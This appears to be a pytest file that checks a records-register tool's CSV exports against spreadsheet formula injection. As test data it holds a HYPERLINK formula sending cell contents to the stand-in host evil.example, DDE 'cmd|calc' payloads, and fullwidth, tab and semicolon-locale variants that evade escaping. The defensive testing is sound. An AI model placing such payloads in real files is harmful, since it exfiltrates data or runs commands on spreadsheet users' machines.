"""A record's text in a CSV file is never a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import unicodedata
from pathlib import Path

from conftest import REPO_ROOT, MakeRegister, release, run_cli, valid_record_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'


def test_record_text_in_csv_cannot_be_a_formula(make_register: MakeRegister) -> None:
    text = (
        valid_record_text("PD-2026-0007")
        .replace("title: Threshold for a child in need assessment", f"title: '{FORMULA}'")
        .replace("  agency: Kent Police\n", "  agency: '@SUM(1+1)*cmd|calc'\n", 1)
    )
    open_one = (
        valid_record_text("PD-2026-0008")
        .replace("title: Threshold for a child in need assessment", f"title: '{FORMULA}'")
        .replace("status: resolved", "status: open")
    )
    open_one = open_one[: open_one.index("resolution:")] + "---\n"
    root = make_register(
        {"records/2026/PD-2026-0007.md": text, "records/2026/PD-2026-0008.md": open_one}
    )
    report = run_cli(["report", "--root", str(root), "--format", "csv", "--as-of", "2026-11-22"])
    overdue = run_cli(["overdue", "--root", str(root), "--format", "csv", "--as-of", "2026-11-22"])
    assert report.exit_code == 0, report.output
    assert overdue.exit_code == 0, overdue.output
    cells = [
        c
        for out in (report.stdout, overdue.stdout)
        for row in csv.reader(io.StringIO(out))
        for c in row
    ]
    assert "'" + FORMULA in cells  # the title, shown as text by a spreadsheet
    assert "'@SUM(1+1)*cmd|calc" in cells  # the agency name
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "0-7" in cells  # ordinary labels are untouched


# Each leads a cell that a spreadsheet would run, in some locale, before this fix: after a
# `;` (a semicolon-locale spreadsheet splits the cell there), fullwidth forms (read as the
# ASCII ones), a tab or carriage return first, and spaces before the sign.
HOSTILE = [
    'Threshold;=HYPERLINK("http://evil.example/","Open")',
    '＝HYPERLINK("http://evil.example/")',
    "＋1+cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would run the cell (as it reads it) as a formula."""
    return cell[:1] in ("\t", "\r") or unicodedata.normalize("NFKC", cell).lstrip()[:1] in (
        "=",
        "+",
        "-",
        "@",
    )


def cells_in_every_locale(text: str) -> list[str]:
    """The cells as a comma-locale spreadsheet reads the file (quotes honoured), and as a
    semicolon-locale or tab-separated reader does: a new cell at every `;` or tab and a new
    row at every line end, a quote only opening a cell that starts with one."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for line in re.split("\r\n|\r|\n", text):
        cells += [cell.removeprefix('"') for cell in re.split("[;\t]", line)]
    return cells


def hostile_register(make_register: MakeRegister) -> Path:
    files = {}
    for n, value in enumerate(HOSTILE, start=10):
        record_id = f"PD-2026-00{n}"
        quoted = json.dumps(value)  # a YAML double-quoted scalar
        files[f"records/2026/{record_id}.md"] = (
            valid_record_text(record_id)
            .replace("title: Threshold for a child in need assessment", f"title: {quoted}")
            .replace("  agency: Kent Police\n", f"  agency: {quoted}\n", 1)
        )
    return make_register(files)


def test_no_cell_runs_in_any_locale(make_register: MakeRegister) -> None:
    root = hostile_register(make_register)
    outputs = [
        run_cli([*command, "--root", str(root), "--format", "csv", "--as-of", "2026-11-22"])
        for command in (["report"], ["overdue"], ["list"])
    ]
    for result in outputs:
        assert result.exit_code == 0, result.output
        cells = cells_in_every_locale(result.stdout)
        assert not [c for c in cells if runs_as_formula(c)], result.stdout
    listed = list(csv.DictReader(io.StringIO(outputs[2].stdout)))
    titles = {row["title"] for row in listed}
    assert '\'＝HYPERLINK("http://evil.example/")' in titles  # shown as text, kept whole
    # After a ';' too: a semicolon-locale spreadsheet starts a cell there, quotes or not.
    assert 'Threshold;\'=HYPERLINK("http://evil.example/","Open")' in titles
    assert {row["stage"] for row in listed} == {"4"}  # numbers are left alone


def test_every_csv_of_the_site_is_safe(make_register: MakeRegister, tmp_path: Path) -> None:
    """The site's report tables (internal) and the open data (public: the publisher is the
    site's name, so mkdocs.yml's `site_name` is the hostile text there)."""
    root = hostile_register(make_register)
    shutil.copyfile(REPO_ROOT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(REPO_ROOT / "site", root / "site")
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    (root / "mkdocs.yml").write_text(
        re.sub(r"(?m)^site_name: .*$", "site_name: '－1+2 Safeguarding Partnership'", config),
        encoding="utf-8",
    )
    release(root)  # the public figures are the release's, with the publisher's name
    for profile in ("internal", "public"):
        out = tmp_path / profile
        built = run_cli(
            [
                "build",
                "--root",
                str(root),
                "--profile",
                profile,
                "-d",
                str(out),
                "--as-of",
                "2026-11-22",
            ]
        )
        assert built.exit_code == 0, built.output
        files = sorted(out.rglob("*.csv"))
        assert files
        for path in files:
            cells = cells_in_every_locale(path.read_text(encoding="utf-8"))
            assert not [c for c in cells if runs_as_formula(c)], path
    agencies = (tmp_path / "internal/reports/2026/csv/agencies.csv").read_text(encoding="utf-8")
    assert "'＠SUM(1+1)" in agencies  # the agency's name, shown as text
    figures = (tmp_path / "public/data/figures.csv").read_text(encoding="utf-8")
    assert ",'－1+2 Safeguarding Partnership," in figures


def test_the_one_cell_function_by_hand() -> None:
    from disputes.report.spreadsheet import csv_document, spreadsheet_cell

    assert spreadsheet_cell("0-7") == "0-7"
    assert spreadsheet_cell(-3) == "-3" and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("-3") == "'-3"
    assert spreadsheet_cell("a;b") == '"a;b"'
    assert spreadsheet_cell("a; ＝1") == '"a; \'＝1"'
    assert spreadsheet_cell("Notes:\n- first") == '"Notes:\n\'- first"'
    assert spreadsheet_cell('say "hi"') == '"say ""hi"""'
    assert csv_document(["a", "b"], [[1, "x,y"]]) == 'a,b\r\n1,"x,y"\r\n'
